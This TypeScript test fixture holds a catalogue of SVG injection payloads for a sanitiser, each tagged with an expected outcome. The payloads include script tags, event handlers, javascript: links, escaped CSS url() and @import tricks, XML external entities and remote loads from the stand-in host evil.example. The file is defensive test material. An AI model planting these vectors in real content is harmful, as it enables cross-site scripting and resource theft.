/**
 * Well-known ways to smuggle a script, an event handler or an external fetch into an SVG, for the
 * sanitiser's tests. Every external address is on evil.example and every script calls alert(), so
 * a test can say "neither word survives". A `cleaned` payload keeps its harmless `#keep` circle;
 * a `rejected` one is refused whole; what is `left out` sits outside the drawing and is simply not kept.
 */
export type SvgPayload = { name: string; svg: string; outcome: 'cleaned' | 'rejected' | 'left out' };

const SVG = 'http://www.w3.org/2000/svg';
const XLINK = 'http://www.w3.org/1999/xlink';
const KEEP = '<circle id="keep" cx="5" cy="5" r="4"/>';

const doc = (inner: string, attributes = '') =>
  `<svg xmlns="${SVG}" xmlns:xlink="${XLINK}" viewBox="0 0 10 10"${attributes}>${KEEP}${inner}</svg>`;

const cleaned = (name: string, inner: string, attributes = ''): SvgPayload => ({
  name,
  svg: doc(inner, attributes),
  outcome: 'cleaned',
});
const rejected = (name: string, svg: string): SvgPayload => ({ name, svg, outcome: 'rejected' });

const scripts = [
  cleaned('a script element', '<script>alert(1)</script>'),
  cleaned('a script in CDATA', '<script><![CDATA[alert(1)]]></script>'),
  cleaned('an external script', '<script xlink:href="https://evil.example/x.js"/>'),
  cleaned('a script in the SVG namespace under a prefix', `<s:script xmlns:s="${SVG}">alert(1)</s:script>`),
  cleaned('an XHTML script', '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
  cleaned(
    'a script deep in groups',
    '<g><g><defs><symbol id="s"><script>alert(1)</script></symbol></defs></g></g>',
  ),
  cleaned('an upper-case SCRIPT', '<SCRIPT>alert(1)</SCRIPT>'),
  cleaned(
    'an SVG Tiny handler',
    '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>',
  ),
  cleaned('a listener element', '<listener event="click" handler="https://evil.example/h.js#h"/>'),
  cleaned('a script inside a style', '<style><script>alert(1)</script></style>'),
];

const handlers = [
  cleaned('onload on the root', '', ' onload="alert(1)"'),
  cleaned('onclick on a shape', '<rect width="1" height="1" onclick="alert(1)"/>'),
  cleaned('an upper-case ONLOAD', '<rect width="1" height="1" ONLOAD="alert(1)"/>'),
  cleaned('onbegin on an animation', '<rect><animate attributeName="x" dur="1s" onbegin="alert(1)"/></rect>'),
  cleaned('onend on a set', '<rect><set attributeName="fill" to="red" onend="alert(1)"/></rect>'),
  cleaned('onmouseover on a group', '<g onmouseover="alert(1)"><rect width="1" height="1"/></g>'),
  cleaned('a handler with entity-encoded code', '<rect onfocusin="&#97;lert(1)"/>'),
  cleaned('a handler under a made-up prefix', '<rect xmlns:x="urn:x" x:onload="alert(1)"/>'),
  cleaned('a handler on a style element', '<style onload="alert(1)">rect{fill:red}</style>'),
  cleaned(
    'a handler on a gradient stop',
    '<linearGradient id="g"><stop offset="0" onclick="alert(1)"/></linearGradient>',
  ),
];

const links = [
  cleaned('a javascript link', '<a href="javascript:alert(1)"><rect width="1" height="1"/></a>'),
  cleaned('an xlink javascript link', '<a xlink:href="javascript:alert(1)"><rect width="1" height="1"/></a>'),
  cleaned('an external use', '<use href="https://evil.example/s.svg#a"/>'),
  cleaned('an xlink external use', '<use xlink:href="https://evil.example/s.svg#a"/>'),
  cleaned(
    'a data: use',
    '<use xlink:href="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+"/>',
  ),
  cleaned(
    'xlink aliased under another prefix',
    `<use xmlns:foo="${XLINK}" foo:href="https://evil.example/s.svg#a"/>`,
  ),
  cleaned('a javascript use split by a tab', '<use href="java&#x09;script:alert(1)"/>'),
  cleaned('an external use behind spaces', '<use href="  https://evil.example/s.svg#a"/>'),
  cleaned('a protocol-relative use', '<use href="//evil.example/s.svg#a"/>'),
  cleaned('an external image', '<image href="https://evil.example/t.png" width="1" height="1"/>'),
  cleaned('feImage in a filter', '<filter id="f"><feImage href="https://evil.example/t.png"/></filter>'),
  cleaned(
    'a gradient inheriting from outside',
    '<linearGradient id="g" href="https://evil.example/g.svg#g"/>',
  ),
  cleaned('a pattern inheriting from outside', '<pattern id="p" xlink:href="https://evil.example/p.svg#p"/>'),
  cleaned(
    'a textPath on an outside path',
    '<text><textPath href="https://evil.example/p.svg#p">x</textPath></text>',
  ),
  cleaned('xml:base pointing outside', '<g xml:base="https://evil.example/"><use href="#keep"/></g>'),
  cleaned('an iframe', '<iframe src="https://evil.example/"/>'),
  cleaned(
    'an embed and an object',
    '<embed src="https://evil.example/x"/><object data="https://evil.example/x"/>',
  ),
  cleaned(
    'foreignObject with HTML',
    '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="https://evil.example/x" onerror="alert(1)"/></body></foreignObject>',
  ),
  cleaned('vbscript in an attribute', '<rect width="1" height="1" class="vbscript:alert(1)"/>'),
];

const animations = [
  cleaned('a set that writes a link', '<a><set attributeName="href" to="javascript:alert(1)"/></a>'),
  cleaned(
    'an animate that writes xlink:href',
    '<use href="#keep"><animate attributeName="xlink:href" values="javascript:alert(1)"/></use>',
  ),
  cleaned(
    'a set that writes href through an aliased xlink prefix',
    `<use xmlns:foo="${XLINK}" href="#keep"><set attributeName="foo:href" to="https://evil.example/s.svg#a"/></use>`,
  ),
  cleaned(
    'a set that writes an event handler',
    '<rect><set attributeName="onmouseover" to="alert(1)"/></rect>',
  ),
  cleaned(
    'an animate that writes a style',
    '<rect><animate attributeName="style" to="fill:url(https://evil.example/x)"/></rect>',
  ),
  cleaned(
    'an attributeName with spaces',
    '<use href="#keep"><set attributeName=" href " to="https://evil.example/x"/></use>',
  ),
  cleaned(
    'an upper-case attributeName',
    '<use href="#keep"><set attributeName="HREF" to="https://evil.example/x"/></use>',
  ),
  cleaned(
    'an animateTransform on href',
    '<use href="#keep"><animateTransform attributeName="href" to="https://evil.example/x"/></use>',
  ),
  cleaned(
    'an allowed attribute animated to an outside url',
    '<rect><animate attributeName="fill" values="red;url(https://evil.example/x#a)"/></rect>',
  ),
  cleaned(
    'a set with attributeType XML writing a data: link',
    '<use href="#keep"><set attributeName="xlink:href" attributeType="XML" to="data:text/html,alert(1)"/></use>',
  ),
];

const styleSheets = [
  cleaned('@import url()', '<style>@import url(https://evil.example/a.css);</style>'),
  cleaned('@import of a string', '<style>@import "https://evil.example/a.css";</style>'),
  cleaned('an escaped @import', '<style>@\\69mport "https://evil.example/a.css";</style>'),
  cleaned('a six-digit escaped @import', '<style>@\\000069mport url(https://evil.example/a.css);</style>'),
  cleaned('an escaped url(', '<style>rect{fill:\\75rl(https://evil.example/x)}</style>'),
  cleaned('url( escaped in the middle', '<style>rect{fill:u\\72l(https://evil.example/x)}</style>'),
  cleaned(
    'an escaped backslash before an escape',
    '<style>rect{fill:\\\\75rl(https://evil.example/x)}</style>',
  ),
  cleaned('image-set(', '<style>rect{background:image-set("https://evil.example/a.png" 1x)}</style>'),
  cleaned(
    '-webkit-image-set(',
    '<style>rect{background:-webkit-image-set(url(https://evil.example/a.png) 1x)}</style>',
  ),
  cleaned('expression(', '<style>rect{width:expression(alert(1))}</style>'),
  cleaned('an escaped expression(', '<style>rect{width:expr\\65ssion(alert(1))}</style>'),
  cleaned('expression with a space', '<style>rect{width:expression (alert(1))}</style>'),
  cleaned(
    '@font-face fetching a font',
    '<style>@font-face{font-family:x;src:url(https://evil.example/f.woff)}</style>',
  ),
  cleaned('-moz-binding', '<style>rect{-moz-binding:url(https://evil.example/x.xml#x)}</style>'),
  cleaned('behavior', '<style>rect{behavior:url(https://evil.example/x.htc)}</style>'),
  cleaned('url( with quotes and spaces', "<style>rect{fill:url( 'https://evil.example/x' )}</style>"),
  cleaned('url( in CDATA', '<style><![CDATA[rect{fill:url(https://evil.example/x)}]]></style>'),
  cleaned('an unterminated url(', '<style>rect{fill:url(https://evil.example/x</style>'),
  cleaned('a cursor url(', '<style>rect{cursor:url(https://evil.example/c.cur),auto}</style>'),
  cleaned('@namespace url(', '<style>@namespace url(https://evil.example/);</style>'),
  cleaned('a mixed-case UrL(', '<style>rect{fill:UrL(https://evil.example/x)}</style>'),
  cleaned('url( in a @media block', '<style>@media screen{rect{fill:url(https://evil.example/x)}}</style>'),
  cleaned(
    'url( written with an XML character reference',
    '<style>rect{fill:u&#x72;l(https://evil.example/x)}</style>',
  ),
  cleaned('a comment splitting @import', '<style>@imp/**/ort url(https://evil.example/a.css);</style>'),
  cleaned('a javascript: url(', '<style>rect{fill:url(javascript:alert(1))}</style>'),
];

const attributes = [
  cleaned('url( in a style attribute', '<rect style="fill:url(https://evil.example/x)"/>'),
  cleaned(
    'image-set( in a style attribute',
    '<rect style="background-image:image-set(\'https://evil.example/a.png\' 1x)"/>',
  ),
  cleaned('an escaped url( in a presentation attribute', '<rect fill="\\75rl(https://evil.example/x)"/>'),
  cleaned('a filter from outside', '<rect filter="url(https://evil.example/f.svg#blur)"/>'),
  cleaned('a mask from outside', '<rect mask="url(https://evil.example/m.svg#m)"/>'),
  cleaned('expression( in a style attribute', '<rect style="width:expression(alert(1))"/>'),
  cleaned('a quoted javascript url(', '<rect style="fill:url(&quot;javascript:alert(1)&quot;)"/>'),
  cleaned('a data: url(', '<rect style="fill:url(data:image/svg+xml;base64,PHN2Zz4=)"/>'),
  cleaned('@import in a style attribute', '<rect style="@import url(https://evil.example/a.css)"/>'),
  cleaned('a local behavior', '<rect style="behavior:url(#default#time2)"/>'),
];

const documents: SvgPayload[] = [
  rejected(
    'an external entity',
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "https://evil.example/x">]><svg xmlns="${SVG}">&x;</svg>`,
  ),
  rejected(
    'a billion laughs',
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "alert(1)"><!ENTITY b "&a;&a;&a;&a;">]><svg xmlns="${SVG}">&b;</svg>`,
  ),
  rejected('an XHTML root', '<svg xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></svg>'),
  rejected('an HTML page', '<html><body><script>alert(1)</script></body></html>'),
  rejected('a broken tag', `<svg xmlns="${SVG}" onload=alert(1)//`),
  rejected(
    '5 000 nested groups',
    `<svg xmlns="${SVG}">${'<g>'.repeat(5000)}<script>alert(1)</script>${'</g>'.repeat(5000)}</svg>`,
  ),
  {
    name: 'a stylesheet processing instruction',
    svg: `<?xml-stylesheet href="https://evil.example/x.css"?>${doc('<?xml-stylesheet href="https://evil.example/y.css"?>')}`,
    outcome: 'cleaned',
  },
  {
    name: 'an external DTD',
    svg: `<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">${doc('')}`,
    outcome: 'left out',
  },
];

export const SVG_PAYLOADS: SvgPayload[] = [
  ...scripts,
  ...handlers,
  ...links,
  ...animations,
  ...styleSheets,
  ...attributes,
  ...documents,
];
